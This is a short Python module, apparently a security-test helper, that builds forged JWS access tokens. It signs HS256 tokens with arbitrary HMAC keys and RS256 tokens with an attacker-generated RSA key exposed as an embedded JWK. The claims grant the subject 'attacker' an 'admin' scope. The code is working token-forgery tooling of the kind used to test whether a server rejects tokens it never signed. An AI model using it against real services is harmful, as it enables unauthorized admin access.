"""How tokens are forged: bytes of a JWS that the server never signed."""

import hashlib
import hmac
import json
from base64 import urlsafe_b64encode
from collections.abc import Mapping
from functools import cache
from time import time
from typing import Any

from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.hazmat.primitives.hashes import SHA256


def b64(data: bytes) -> str:
    """RFC 7515 §2."""
    return urlsafe_b64encode(data).rstrip(b"=").decode()


def claims(issuer: str) -> dict[str, Any]:
    """As an access token of the server's would have them (RFC 9068 §2.2)."""
    now = int(time())
    return {
        "iss": issuer,
        "aud": issuer,
        "sub": "attacker",
        "client_id": "attacker",
        "jti": "forged",
        "scope": "openid admin",
        "iat": now,
        "exp": now + 600,
    }


def unsigned(header: Mapping[str, Any], members: Mapping[str, Any]) -> str:
    """The part that a signature would be over."""
    return ".".join(b64(json.dumps(part).encode()) for part in (header, members))


def with_hmac(header: Mapping[str, Any], members: Mapping[str, Any], key: bytes) -> str:
    """HS256 with any bytes as key."""
    part = unsigned(header, members)
    return f"{part}.{b64(hmac.digest(key, part.encode(), hashlib.sha256))}"


@cache
def own_key() -> "OwnKey":
    """One is enough: it takes a while to make."""
    return OwnKey()


class OwnKey:
    """A key of the attacker's."""

    def __init__(self) -> None:
        self._key = rsa.generate_private_key(public_exponent=65_537, key_size=2048)
        numbers = self._key.public_key().public_numbers()
        self.jwk = {
            "kty": "RSA",
            "n": b64(numbers.n.to_bytes(256)),
            "e": b64(numbers.e.to_bytes(3)),
            "kid": "forged",
        }

    def signed(self, header: Mapping[str, Any], members: Mapping[str, Any]) -> str:
        """RS256."""
        part = unsigned(header, members)
        return f"{part}.{b64(self._key.sign(part.encode(), padding.PKCS1v15(), SHA256()))}"
